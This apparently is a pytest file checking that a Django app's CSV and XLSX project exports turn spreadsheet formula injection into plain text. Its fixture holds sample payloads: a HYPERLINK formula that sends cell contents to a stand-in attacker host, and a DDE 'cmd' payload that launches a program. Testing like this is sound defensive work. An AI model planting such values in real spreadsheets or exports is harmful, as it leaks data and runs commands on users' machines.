"""Finding 1 of issue 17: no cell of a CSV or XLSX export runs as a spreadsheet formula (ADR 0017)."""

import io

import openpyxl
import pytest
from django.urls import reverse

from projects.models import Project
from tests.pages import csv_table

LIST = reverse("projects:project_list")
FORMULAS = [
    '=HYPERLINK("https://angriber.example/?d="&A1;"Klik her")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
]


@pytest.fixture
def projects_typed_as_formulas(seed):
    """A secretary has typed formulas as project names."""
    names = []
    for project, formula in zip(Project.objects.order_by("pk"), FORMULAS):
        Project.objects.filter(pk=project.pk).update(name=formula)
        names.append(formula)
    return names


def test_a_politician_exporting_csv_gets_formulas_as_quoted_text(client_for, politician, projects_typed_as_formulas):
    response = client_for(politician).get(LIST, {"_export": "csv"})
    table = csv_table(response.content)
    names = [row[table[0].index("Projektnavn")] for row in table[1:]]
    for formula in projects_typed_as_formulas:
        assert formula not in names
        assert f"'{formula}" in names  # the text after the apostrophe is what the secretary typed
    assert not any(cell.startswith(("=", "+", "@")) for row in table[1:] for cell in row)


def test_a_politician_exporting_xlsx_gets_text_cells_not_formulas(client_for, politician, projects_typed_as_formulas):
    response = client_for(politician).get(LIST, {"_export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    column = next(cell.column for cell in sheet[1] if cell.value == "Projektnavn")
    cells = {sheet.cell(row, column).value: sheet.cell(row, column) for row in range(2, sheet.max_row + 1)}
    for formula in projects_typed_as_formulas:
        cell = cells[formula]  # exactly as typed …
        assert cell.data_type == "s" and cell.quotePrefix  # … and only ever text
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_exports_keep_numbers_and_plain_negative_numbers_as_they_are(client_for, politician, seed):
    from core.exports import is_formula_like, neutralise_for_csv

    assert neutralise_for_csv("-1500") == "-1500" and neutralise_for_csv("-1.500,50") == "-1.500,50"
    assert neutralise_for_csv(-1500) == -1500 and not is_formula_like("Læsecenter")
    sheet = openpyxl.load_workbook(
        io.BytesIO(client_for(politician).get(LIST, {"year": 2019, "_export": "xlsx"}).content)
    ).active
    assert sheet.cell(1, 1).font.bold and sheet.freeze_panes == "A2"
    column = next(cell.column for cell in sheet[1] if cell.value == "Disponeret 2019")
    assert sum(sheet.cell(r, column).value for r in range(2, 8)) == 4_650_000
